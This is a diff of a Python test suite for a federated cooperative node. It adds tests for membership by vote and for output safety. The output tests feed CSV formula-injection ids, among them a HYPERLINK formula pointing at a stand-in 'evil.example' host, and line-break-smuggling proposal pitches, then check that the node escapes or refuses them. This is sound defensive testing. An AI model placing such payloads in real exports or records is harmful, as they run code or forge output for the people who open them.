@@ -13,8 +13,9 @@ from typing import Any
 
 import pytest
 from aiohttp import ClientResponse
-from aiohttp.test_utils import TestClient, TestServer
-from coopkit import CHARTER, DAY, FOUNDERS, HOUR, REQ, T0, did, key
+from aiohttp.test_utils import TestClient
+from coopkit import CHARTER, DAY, FOUNDERS, HOUR, REQ, T0, NodeTestServer, did, key
+from test_cli import Cli
 
 from coopfed.node import app as app_module
 from coopfed.node.api_errors import STATUS_BY_CODE
@@ -47,7 +48,7 @@ from coopfed.protocol.merkle import (
     verify_inclusion,
 )
 from coopfed.protocol.note import NoteVerifier
-from coopfed.protocol.records import Record, sign_record
+from coopfed.protocol.records import SIGNING_DOMAIN, Record, sign_record
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -143,7 +144,7 @@ async def expect_error(resp: ClientResponse, status: int, code: str) -> str:
 
 async def serve(config: Config, clock: Clock) -> Live:
     client: TestClient[Any, Any] = TestClient(
-        TestServer(create_app(config, clock=clock), host="127.0.0.1")
+        NodeTestServer(create_app(config, clock=clock), host="127.0.0.1")
     )
     await client.start_server()
     known = await (await client.get("/.well-known/coopfed")).json()
@@ -168,11 +169,13 @@ async def live(backend: Any) -> AsyncIterator[Live]:
         await node.client.close()
 
 
-def flag(live: Live, who: str, reason: FlagReason = FlagReason.UNDERPAID) -> Record:
+def flag(
+    live: Live, who: str, reason: FlagReason = FlagReason.UNDERPAID, requester: RequesterRef = REQ
+) -> Record:
     return live.sign(
         who,
         Flag(
-            requester=REQ,
+            requester=requester,
             target="requester",
             target_id=None,
             reason=reason,
@@ -488,7 +491,7 @@ async def test_invites_need_the_admin_token(live: Live) -> None:
     resp = await live.client.post(
         "/api/v1/join", data=b"{", headers={"Content-Type": "application/json"}
     )
-    await expect_error(resp, 400, "bad_request")
+    await expect_error(resp, 400, "decode_error")  # bytes that are not JSON, as for MessagePack
     resp = await live.client.post(
         "/api/v1/join", data=b"{}", headers={"Content-Type": "text/plain"}
     )
@@ -502,6 +505,61 @@ async def test_invites_need_the_admin_token(live: Live) -> None:
     await expect_error(resp, 409, "invite_expired")
 
 
+# --------------------------------------------------------------------------- output (issue 11)
+
+
+async def test_the_blocklist_csv_holds_no_formula(live: Live, tmp_path: Path) -> None:
+    """A requester id is the requester's choice, and ``=HYPERLINK(…)`` is a valid one: three
+    members flag four such ids, and no CSV cell the node or the command line writes is one
+    a spreadsheet would run (item 4)."""
+    formulas = ['=HYPERLINK("http://evil.example/?q","Open")', "+1+1", "-2+3", "@SUM(1)"]
+    for rid in formulas:
+        for who in FOUNDERS:
+            await live.ok(flag(live, who, requester=RequesterRef(platform="mturk", id=rid)))
+
+    async def all_blocked() -> bool:
+        return len((await live.get("/api/v1/blocklist"))["entries"]) == len(formulas)
+
+    await live.governed(all_blocked)
+    resp = await live.client.get("/api/v1/blocklist?format=csv")
+    assert resp.status == 200 and resp.content_type == "text/csv"
+    served = await resp.text()
+    await Cli(tmp_path)(
+        "blocklist",
+        "export",
+        "--node",
+        str(live.client.make_url("")),
+        "--format",
+        "csv",
+        "-o",
+        "bl.csv",
+    )
+    written = (tmp_path / "bl.csv").read_text(encoding="utf-8")
+    for text in (served, written):
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        assert sorted(r["requester_id"] for r in rows) == sorted("'" + f for f in formulas)
+        for row in rows:
+            assert all(not c.lstrip() or c.lstrip()[0] not in "=+-@\t\r" for c in row.values())
+    # What the cell shows is the id after the quote; the JSON view is exact.
+    ids = [e["requester"]["id"] for e in (await live.get("/api/v1/blocklist"))["entries"]]
+    assert sorted(ids) == sorted(formulas)
+
+
+async def test_a_pitch_is_one_line(live: Live) -> None:
+    """A pitch holding a line break is refused with its own code (item 7): listed, it
+    would print a line of its own, such as a verdict."""
+    good = proposal(live, "ana", kind=ProposalKind.IDEA)
+    env = decode(good.raw)
+    assert isinstance(env, dict)
+    for pitch in ("ok\nDECIDED: passed", "ok\u2028DECIDED: passed", "ok\tpassed"):
+        unsigned = {k: v for k, v in env.items() if k != "sig"}
+        unsigned["body"] = {**env["body"], "pitch": pitch}  # type: ignore[dict-item]
+        sig = key("ana").sign(SIGNING_DOMAIN + encode(unsigned))
+        msg = await live.refused(encode({**unsigned, "sig": sig}), 400, "not_one_line")
+        assert "body.pitch" in msg
+    await live.ok(good)
+
+
 # --------------------------------------------------------------------------- membership by vote
 
 
@@ -510,14 +568,27 @@ async def test_admission_by_vote(tmp_path: Path) -> None:
     await found_config(config, dataclasses.replace(CHARTER, admission="vote"))
     live = await serve(config, Clock(T0 + 1000))
     try:
-        joined = await live.join("eve", None)
-        assert joined["via"] == "vote" and not joined["admitted"]
-        prop = await live.get(f"/api/v1/proposals/{joined['id']}")
+        joined = await live.join("eve", None, status=202)
+        assert joined["status"] == "pending" and not joined["admitted"]
+        assert "sponsor" in joined["message"]
+        (waiting,) = (await live.get("/api/v1/applications"))["applications"]
+        assert waiting["id"] == joined["id"] and waiting["member"] == did("eve")
+        sponsor = live.sign(
+            "ana",
+            Proposal(
+                kind=ProposalKind.ADMIT,
+                pitch="Admit eve",
+                member=did("eve"),
+                application=bytes.fromhex(waiting["id"]),
+                opens=live.clock.now,
+                closes=live.clock.now + HOUR,
+            ),
+        )
+        await live.ok(sponsor)
+        prop = await live.get(f"/api/v1/proposals/{sponsor.id.hex()}")
         assert prop["kind"] == "admit" and prop["body"]["member"] == did("eve")
         for who in FOUNDERS:
-            await live.ok(
-                live.sign(who, Ballot(proposal=bytes.fromhex(joined["id"]), choice="yes"))
-            )
+            await live.ok(live.sign(who, Ballot(proposal=sponsor.id, choice="yes")))
         await live.refused(live.sign("eve", Rating(requester=REQ, text="x")), 403, "not_member")
         live.clock.now += HOUR
 
